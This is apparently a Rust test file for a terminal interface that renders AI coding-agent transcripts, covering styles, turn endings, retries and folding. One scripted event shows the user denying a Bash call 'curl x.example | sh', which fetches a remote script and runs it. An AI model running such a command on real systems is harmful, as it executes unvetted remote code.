//! Every kind of block of a transcript, with its styles.

use std::collections::BTreeMap;
use std::time::Duration;

use crossterm::event::KeyCode;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::style::{Color, Style};

use crate::protocol::{
    ApiError, Command, Denial, EventKind, Failure, NoticeLevel, ResultBlock, RunEnd, Sender, Todo,
    TodoStatus, ToolDetails, ToolUseId,
};
use crate::tui::msg::Msg;
use crate::tui::testing::{TestScreen, finish};
use crate::tui::text::Highlighter;
use crate::tui::theme::Theme;
use crate::tui::transcript::ItemKind;
use crate::tui::view::View;

use super::pictures::picture;
use super::{busy, root};

/// The screen's text, below each line a letter for the style of each cell, and what they mean.
fn styled_picture(screen: &mut TestScreen, theme: &str, width: u16, height: u16) -> String {
    let mut view = View::new(Theme::named(theme).unwrap(), Highlighter::off());
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    screen.send(Msg::Resize { width, height });
    terminal.draw(|frame| view.draw(&screen.model, frame)).unwrap();
    let buffer = terminal.backend().buffer();
    let (mut output, mut legend) = (String::new(), BTreeMap::new());
    for y in 0..height {
        let cells = || (0..width).map(|x| &buffer[(x, y)]);
        let text: String = cells().map(ratatui::buffer::Cell::symbol).collect();
        let letters: String = cells()
            .map(|cell| {
                let is_blank = cell.symbol() == " " && cell.bg == Color::Reset;
                match (is_blank, describe(cell.style())) {
                    (false, Some(words)) => {
                        let next = char::from(b'a' + u8::try_from(legend.len()).unwrap());
                        *legend.entry(words).or_insert(next)
                    }
                    _ => ' ',
                }
            })
            .collect();
        for line in [text, letters] {
            output.push_str(line.trim_end());
            output.push('\n');
        }
    }
    let mut legend: Vec<_> = legend.into_iter().map(|(words, letter)| (letter, words)).collect();
    legend.sort_unstable();
    for (letter, words) in legend {
        output.push_str(&format!("{letter}: {words}\n"));
    }
    output
}

fn describe(style: Style) -> Option<String> {
    let colour = |colour: Option<Color>| colour.filter(|colour| *colour != Color::Reset);
    let mut words = Vec::new();
    words.extend(colour(style.fg).map(|colour| colour.to_string()));
    words.extend(colour(style.bg).map(|colour| format!("on {colour}")));
    if !style.add_modifier.is_empty() {
        words.push(format!("{:?}", style.add_modifier).to_lowercase());
    }
    (!words.is_empty()).then(|| words.join(" "))
}

/// Ends a call that has run for some time.
pub(super) fn done(
    screen: &mut TestScreen,
    (id, name, subject): (&str, &str, &str),
    code: i32,
    (summary, text): (&str, &str),
    details: Option<ToolDetails>,
) {
    screen.tool(&root(), id, name, subject);
    screen.main(EventKind::ToolFinished {
        id: ToolUseId::new(id),
        name: name.to_owned(),
        is_error: code != 0,
        summary: summary.to_owned(),
        content: vec![ResultBlock::Text { text: text.to_owned() }],
        details,
        took: Duration::from_millis(1200),
    });
}

pub(super) fn command(code: i32) -> Option<ToolDetails> {
    Some(ToolDetails::Command { exit_code: Some(code), cwd: "shop".into() })
}

fn todos(done: usize) -> Option<ToolDetails> {
    let items = ["Find the rule", "Fix the border case", "Run the tests"];
    let status = |at: usize| match at {
        at if at < done => TodoStatus::Completed,
        at if at == done => TodoStatus::InProgress,
        _ => TodoStatus::Pending,
    };
    let items = items.iter().enumerate();
    let items = items.map(|(at, text)| Todo { content: (*text).to_owned(), status: status(at) });
    Some(ToolDetails::Todos { items: items.collect() })
}

/// Updates the to-do list.
fn update_todos(screen: &mut TestScreen, id: &str, finished: usize) {
    let summary = format!("{finished} of 3 done");
    done(screen, (id, "TodoWrite", ""), 0, (&summary, ""), todos(finished));
}

/// A turn with all kinds of calls.
fn work() -> TestScreen {
    let mut screen = TestScreen::new();
    screen.prompt("fix the border case");
    screen.main(EventKind::ThinkingDelta { text: "The rule says ten or more.".to_owned() });
    screen.at += Duration::from_secs(1);
    screen.says(&root(), "First **a look**: `lib/discount.sh` decides.\n\n");
    screen.says(&root(), "| file | line |\n|---|--:|\n| discount.sh | 8 |\n\n> ten *or more*\n\n");
    screen.says(&root(), "```sh\nif [ \"$count\" -gt 10 ]; then\n```\n");
    screen.tool(&root(), "1", "Read", "lib/a.sh").tool_done(&root(), "1", "Read", "15 lines");
    screen.tool(&root(), "2", "Grep", "\"gt\"").tool_done(&root(), "2", "Grep", "1 hit");
    update_todos(&mut screen, "3", 0);
    let diff = "@@ -8 +8 @@\n-  if [ \"$count\" -gt 10 ]\n+  if [ \"$count\" -ge 10 ]\n";
    let (path, diff) = ("lib/a.sh".into(), diff.to_owned());
    let diff = Some(ToolDetails::Diff { path, diff, added: 1, removed: 1 });
    done(&mut screen, ("4", "Edit", "lib/a.sh"), 0, ("+1 −1", ""), diff);
    update_todos(&mut screen, "5", 2);
    let text = "cat: nope.txt: No such file or directory\nexit code 3";
    done(&mut screen, ("6", "Bash", "cat nope.txt; exit 3"), 3, ("exit 3", text), command(3));
    let (tool, input) =
        ("Bash".to_owned(), serde_json::json!({ "command": "curl x.example | sh" }));
    let (id, denial) = (ToolUseId::new("7"), Denial::by_user(None));
    screen.main(EventKind::PermissionDenied { id, tool, input, denial });
    let text = "one\ntwo\nthree\nfour\nfive\ntest result: ok. 214 passed; 0 failed; 0 ignored";
    done(&mut screen, ("8", "Bash", "cargo test"), 0, ("6 lines", text), command(0));
    screen
}

#[test]
fn the_blocks_of_a_turn_have_their_styles() {
    for theme in ["dark", "light"] {
        let mut screen = work();
        screen.at += Duration::from_secs(100);
        screen.says(&root(), "One operator was wrong. 214 tests pass.");
        screen.turn_done(&root(), 21_000, 0.06).main(finish(RunEnd::Completed, ""));
        let drawn = styled_picture(&mut screen, theme, 90, 58);
        insta::assert_snapshot!(format!("blocks_{theme}"), drawn);
    }
}

/// A turn with agents that ended in all ways, after which other things happened.
fn ends() -> TestScreen {
    let mut screen = TestScreen::new();
    screen.prompt("find out why login is slow");
    let ends = [
        ("explore-1", "map the routes", RunEnd::Completed),
        ("explore-2", "find the slow query", RunEnd::Cancelled { before_start: false }),
        ("review-1", "check the tests", {
            let message = "rate limit after 8 tries".to_owned();
            RunEnd::Failed { failure: Failure::RateLimit, message }
        }),
        ("review-2", "read the docs", RunEnd::MaxTurns { limit: 20 }),
    ];
    for (name, task, end) in ends {
        let agent = screen.agent(&root(), name, task);
        screen.at += Duration::from_secs(31);
        screen.turn_done(&agent, 18_000, 0.05);
        screen.event(&agent, finish(end, "## Found\n\n- `http.rs` is *generated*"));
    }
    screen.says(&root(), "Login read the session twice.");
    screen.turn_done(&root(), 21_000, 0.06).main(finish(RunEnd::Completed, ""));
    let from = Sender::Agent { name: "docs-1".to_owned() };
    screen.reads(&root(), from, "The docs promise one read.\n\nSee docs/api.md.");
    screen.main(EventKind::TurnStarted { turn: 1, limit: None });
    let text = "hooks.toml: line 3 skipped".to_owned();
    screen.main(EventKind::Notice { level: NoticeLevel::Warning, text });
    screen.says(&root(), "This answer was cut off, and is read while it is tried again.");
    screen.turn_done(&root(), 0, 0.0);
    let (wait, failure) = (Duration::from_secs(1), Failure::Connection);
    let reason = "The answer from mock.example was cut off: try again".to_owned();
    let error = ApiError::default();
    screen.main(EventKind::Retrying { attempt: 3, limit: 8, wait, failure, error, reason });
    screen
}

#[test]
fn ends_and_what_follows_have_their_styles() {
    for theme in ["dark", "light"] {
        insta::assert_snapshot!(
            format!("ends_{theme}"),
            styled_picture(&mut ends(), theme, 110, 32)
        );
    }
    insta::assert_snapshot!("ends_80x24", picture(&mut ends(), 80, 24));
}

#[test]
fn what_was_read_of_a_lost_answer_stays_until_the_next_one_comes() {
    let mut screen = ends();
    let output = picture(&mut screen, 110, 40);
    assert!(output.contains("This answer was cut off"), "{output}");
    assert!(output.contains("connection lost · retrying in 1 s (3 of 8) · 0:00"), "{output}");
    screen.says(&root(), "The whole answer.");
    let output = picture(&mut screen, 110, 40);
    assert!(!output.contains("was cut off") && output.contains("The whole answer."), "{output}");
}

#[test]
fn what_was_read_of_a_lost_answer_is_there_again_if_the_next_one_is_stopped_at_once() {
    let mut screen = ends();
    screen.says(&root(), "This");
    assert!(!picture(&mut screen, 110, 40).contains("was cut off"));
    screen.main(finish(RunEnd::Cancelled { before_start: false }, "This"));
    let output = picture(&mut screen, 110, 40);
    assert!(output.contains("This answer was cut off"), "{output}");
    // Not if the next one has as much.
    let mut screen = ends();
    screen.says(&root(), &"The whole answer, which is long. ".repeat(4));
    screen.main(finish(RunEnd::Cancelled { before_start: false }, ""));
    assert!(!picture(&mut screen, 110, 40).contains("was cut off"));
}

#[test]
fn a_list_that_is_in_view_is_updated_in_its_place_and_another_follows_the_work() {
    let mut screen = work();
    let lists = |screen: &mut TestScreen| {
        let output = picture(screen, 90, 70);
        let found = output.lines().enumerate().filter(|(_, line)| line.contains("To-do"));
        found.map(|(at, line)| (at, line.to_owned())).collect::<Vec<_>>()
    };
    let before = lists(&mut screen);
    assert_eq!(before.len(), 1);
    assert!(before[0].1.contains("2 of 3 done"), "{before:?}");
    screen.tool(&root(), "9", "TodoWrite", "");
    assert_eq!(lists(&mut screen).len(), 1, "the old list stays while the call runs");
    let summary = "no list given";
    done(&mut screen, ("10", "TodoWrite", ""), 1, (summary, ""), None);
    let output = picture(&mut screen, 90, 70);
    assert!(output.contains("2 of 3 done") && output.contains("✗ not updated"), "{output}");
    for number in 0..8 {
        screen.says(&root(), &format!("Step {number}."));
        done(&mut screen, (&format!("b{number}"), "Bash", "true"), 0, ("", "x"), command(0));
    }
    update_todos(&mut screen, "11", 3);
    let after = lists(&mut screen);
    assert!(after.last().unwrap().1.contains("3 of 3 done"), "{after:?}");
    assert!(!after.iter().any(|(_, line)| line.contains("2 of 3")), "{after:?}");
    screen.main(EventKind::PromptRead { id: None, text: "next".into(), from: Sender::Person });
    update_todos(&mut screen, "12", 1);
    assert_eq!(lists(&mut screen).len(), after.len() + 1, "a list for each prompt");
}

/// The last line of a turn and what is below it.
fn end_of(end: RunEnd) -> String {
    let mut screen = TestScreen::new();
    let id = "01a21c65-5fe3-764b-96d0-5b5f84696122".parse().unwrap();
    (screen.model.session.id, screen.model.session.resumable) = (Some(id), true);
    screen.prompt("go");
    screen.at += Duration::from_secs(42);
    screen.turn_done(&root(), 4_000, 0.01).main(finish(end, ""));
    let kinds = screen.model.main.iter().map(|(_, item)| &item.kind);
    match kinds.last() {
        Some(ItemKind::Finish { facts, advice, retry, .. }) => {
            let facts: Vec<_> = facts.iter().map(|fact| fact.text.as_str()).collect();
            let advice = advice.iter().chain(retry).map(String::as_str).collect::<Vec<_>>();
            [facts.join(" · "), advice.join(" · ")].join("\n").trim_end().to_owned()
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn every_end_of_a_turn_says_what_happened_and_what_to_do() {
    let failed = |failure, message: &str| RunEnd::Failed { failure, message: message.to_owned() };
    let cases = [
        (RunEnd::Completed, "done in 0:42 · 4k tokens · $0.01"),
        (RunEnd::Cancelled { before_start: false }, "stopped after 0:42 · 4k tokens · $0.01"),
        (
            RunEnd::MaxTurns { limit: 20 },
            "turn limit 20 reached · 0:42 · 4k tokens · $0.01\nsay \"go on\" to continue",
        ),
        (
            RunEnd::Budget { what: "$0.50".to_owned() },
            "budget $0.50 spent · 0:42 · 4k tokens · $0.01\nquit, then `caliban -c --max-budget-usd USD` resumes with a higher limit",
        ),
        (
            RunEnd::TimeLimit { limit: Duration::from_secs(6) },
            "time limit 0:06 reached · 0:42 · 4k tokens · $0.01\nsay \"go on\" to continue",
        ),
        (
            RunEnd::MaxTokens { limit: Some(64_000) },
            "answer cut off at 64,000 tokens · 0:42 · 4k tokens · $0.01\nsay \"go on\" to continue",
        ),
        (
            RunEnd::MaxTokens { limit: None },
            "answer ended early by the server · 0:42 · 4k tokens · $0.01\nsay \"go on\" to continue",
        ),
        (
            RunEnd::Empty,
            "ended without an answer · 0:42 · 4k tokens · $0.01\nsay \"go on\", or choose another model: /model",
        ),
        (
            failed(Failure::BadRequest, "h rejected the request (400): odd. Check the model"),
            "failed: bad request · 0:42 · 4k tokens · $0.01\nh rejected the request (400): odd. Check the model · Enter tries again",
        ),
        (
            failed(Failure::RateLimit, "h: rate limit reached (429). Try again later"),
            "failed: rate limit · 0:42 · 4k tokens · $0.01\nh: rate limit reached (429) · Enter tries again",
        ),
        (
            failed(Failure::Auth, "Anthropic rejected the key (401). Set ANTHROPIC_API_KEY"),
            "failed: key rejected · 0:42 · 4k tokens · $0.01\nAnthropic rejected the key (401). Set ANTHROPIC_API_KEY, then start again:\ncaliban --resume 01a21c65-5fe3-764b-96d0-5b5f84696122",
        ),
    ];
    for (end, said) in cases {
        assert_eq!(end_of(end), said);
    }
}

#[test]
fn the_failed_ones_of_many_calls_are_not_among_those_that_are_counted() {
    let mut screen = busy();
    for number in 1..=9 {
        let (id, file) = (format!("r{number}"), format!("docs/a-long-name-of-part-{number}.md"));
        let failed = i32::from(number % 2 == 0);
        let summary = if failed == 1 { "failed" } else { "12 lines" };
        done(&mut screen, (&id, "Read", &file), failed, (summary, ""), None);
    }
    let shown = picture(&mut screen, 80, 30);
    assert!(shown.contains("● Read docs/a-long-name-of-part-2.md   ✗ failed"), "{shown}");
    let row = shown.lines().find(|line| line.contains("+")).unwrap();
    assert!(!row.contains("lines"), "those that went well are left out first: {shown}");
}

#[test]
fn the_list_of_tools_for_the_model_is_folded() {
    let mut screen = TestScreen::new();
    screen.prompt("go");
    let text = format!("There is no tool Raed. The tools are: {}.", "Read, Write, ".repeat(40));
    done(&mut screen, ("1", "Raed", "a.py"), 1, ("no such tool", &text), None);
    let shown = picture(&mut screen, 80, 24);
    assert!(shown.contains("✗ no such tool") && !shown.contains("The tools are"), "{shown}");
}

#[test]
fn a_result_alone_takes_no_line_below_its_call() {
    let mut screen = busy();
    let line = "sleep 3; touch made-by-1; ls -la src/routes/of/the/shop";
    done(&mut screen, ("b", "Bash", line), 0, ("no output", ""), command(0));
    for width in 60..80 {
        let shown = picture(&mut screen, width, 24);
        let alone = shown.lines().find(|line| line.trim() == "no output");
        assert_eq!(alone, None, "{width}: {shown}");
        assert!(shown.contains("no output"), "{width}: {shown}");
    }
}

#[test]
fn a_plan_that_needs_no_approval_has_no_words_for_the_model() {
    let mut screen = busy();
    let text = crate::protocol::NO_PLAN_MODE;
    done(&mut screen, ("p", "ExitPlanMode", ""), 1, ("failed", text), None);
    let shown = picture(&mut screen, 80, 24);
    assert!(shown.contains("● Plan   ✗ plan mode is off"), "{shown}");
    assert!(!shown.contains("carry out"), "{shown}");
}

#[test]
fn a_failure_offers_enter_only_while_enter_tries_again() {
    let shown = |screen: &mut TestScreen| super::pictures::picture(screen, 120, 40);
    let mut screen = busy();
    screen.write("and then this").enter();
    let Some(Command::Prompt { prompt, .. }) = screen.sent().pop() else { panic!() };
    let message = "mock.example: rate limit reached (429). Try again later".to_owned();
    let failed = || RunEnd::Failed { failure: Failure::RateLimit, message: message.clone() };
    screen.main(EventKind::PromptReturned { id: prompt.id, text: prompt.text });
    screen.main(finish(failed(), ""));
    assert_eq!(screen.notice(), "Failed · 1 queued message is back in the prompt");
    let with_draft = shown(&mut screen);
    assert!(with_draft.contains("(429) · clear the draft, then Enter tries again"), "{with_draft}");
    screen.ctrl('c');
    let cleared = shown(&mut screen);
    assert!(cleared.contains("(429) · Enter tries again"), "{cleared}");
    screen.write("x");
    assert!(shown(&mut screen).contains("clear the draft, then"));
    screen.key(KeyCode::Backspace).enter();
    assert_eq!(screen.sent(), [Command::Retry]);
    assert!(!shown(&mut screen).contains("tries again"), "it is being tried");
}

#[test]
fn a_failure_offers_to_try_again_only_while_that_is_possible_and_can_help() {
    let offers = |screen: &TestScreen| -> Vec<bool> {
        let items = screen.model.main.iter().map(|(_, item)| &item.kind);
        let retry = items.filter_map(|kind| match kind {
            ItemKind::Finish { retry, .. } => Some(retry.is_some()),
            _ => None,
        });
        retry.collect()
    };
    let failed = |failure| RunEnd::Failed { failure, message: "no".to_owned() };
    let mut screen = TestScreen::new();
    screen.prompt("one").main(finish(failed(Failure::Timeout), ""));
    assert_eq!(offers(&screen), [true]);
    screen.enter().sent();
    assert_eq!(offers(&screen), [false], "it was taken");
    screen.main(finish(failed(Failure::Overloaded), ""));
    assert_eq!(offers(&screen), [false, true]);
    screen.prompt("two").main(finish(RunEnd::Completed, "well"));
    assert_eq!(offers(&screen), [false, false, false], "a later turn has followed");
    screen.prompt("three").main(finish(failed(Failure::ContextFull), ""));
    let EventKind::Finished(mut outcome) = finish(failed(Failure::BadRequest), "") else {
        panic!()
    };
    outcome.rejected = true;
    screen.prompt("four").main(EventKind::Finished(outcome));
    assert_eq!(offers(&screen), [false; 5]);
    let last = screen.model.main.iter().last().map(|(_, item)| item.kind.clone());
    let Some(ItemKind::Finish { advice, .. }) = last else { panic!("{last:?}") };
    assert_eq!(advice.as_deref(), Some("no · your next prompt goes without it"));
    screen.enter();
    assert_eq!(screen.sent(), [], "it would be rejected again");
    assert_eq!(screen.notice(), "the same would be rejected again · Up brings the prompt back");
    screen.model.session.model = "opus-5".to_owned();
    screen.enter();
    assert_eq!(screen.sent(), [Command::Retry], "with another model it may work");
}

#[test]
fn a_long_prompt_is_folded_to_its_first_lines() {
    let mut screen = TestScreen::new();
    let text: Vec<String> = (1..=2000).map(|line| format!("line-{line};")).collect();
    screen.prompt(&text.join("\n"));
    let output = picture(&mut screen, 90, 40);
    assert!(output.contains("line-20;") && output.contains("… +1980 lines"), "{output}");
    assert!(!output.contains("line-21;"), "{output}");
    screen.ctrl('t');
    let output = picture(&mut screen, 90, 40);
    assert!(output.contains("line-21;") && !output.contains("… +"), "{output}");
    let mut screen = TestScreen::new();
    screen.prompt(&text[..21].join("\n"));
    let output = picture(&mut screen, 90, 40);
    assert!(output.contains("line-21;") && !output.contains("… +"), "{output}");
}

#[test]
fn a_prompt_of_one_long_line_is_folded_too() {
    let mut screen = TestScreen::new();
    screen.prompt(&format!("{}the end", "word ".repeat(8000)));
    for (width, height) in [(60, 30), (90, 40), (160, 45)] {
        let output = picture(&mut screen, width, height);
        let rows = output.lines().filter(|line| line.contains("word word")).count();
        assert_eq!(rows, 20, "{output}");
        assert!(output.contains("… +") && !output.contains("the end"), "{output}");
    }
    screen.ctrl('t');
    let output = picture(&mut screen, 90, 40);
    assert!(!output.contains("… +"), "{output}");
    screen.ctrl('t');
    assert!(picture(&mut screen, 90, 40).contains("… +"));
}

#[test]
fn the_rows_of_a_turn_add_up_to_its_last_line() {
    let mut screen = TestScreen::new();
    screen.prompt("go");
    let parent = screen.agent(&root(), "plan-1", "plan");
    let child = screen.agent(&parent, "explore-1", "look");
    screen.turn_done(&child, 6_000, 0.02).turn_done(&parent, 2_000, 0.01);
    for agent in [&child, &parent, &root()] {
        screen.event(agent, finish(RunEnd::Completed, "found"));
    }
    let output = picture(&mut screen, 120, 30);
    for figures in ["8k tokens · $0.03", "2k  $0.01", "6k  $0.02"] {
        assert!(output.contains(figures), "{figures}: {output}");
    }
}

#[test]
fn a_command_of_the_user_has_a_work_line() {
    let mut screen = TestScreen::new();
    screen.write("! sleep 20").enter().wait(3000);
    let output = picture(&mut screen, 90, 24);
    assert!(output.contains("sleep 20 · 0:03"), "{output}");
}

#[test]
fn words_of_many_lines_keep_their_line_ends_in_a_row() {
    let mut screen = TestScreen::new();
    let reason = Some("first line\nsecond line".to_owned());
    screen.prompt("go").main(EventKind::PermissionDenied {
        id: ToolUseId::new("1"),
        tool: "Bash".to_owned(),
        input: serde_json::json!({ "command": "make" }),
        denial: Denial { by_user: true, declined: false, reason },
    });
    let shown = picture(&mut screen, 120, 40);
    assert!(shown.contains("denied by you: first line␊second line"), "{shown}");
}

#[test]
fn an_agent_that_has_spent_the_budget_names_no_key_that_resumes_it() {
    let mut screen = TestScreen::new();
    screen.prompt("go");
    let first = screen.agent(&root(), "explore-1", "look");
    screen.agent(&root(), "explore-2", "look");
    screen.event(&first, finish(RunEnd::Budget { what: "$0.03".to_owned() }, "a part"));
    let shown = picture(&mut screen, 120, 40);
    assert!(shown.contains("budget $0.03 spent") && !shown.contains("resumes"), "{shown}");
}
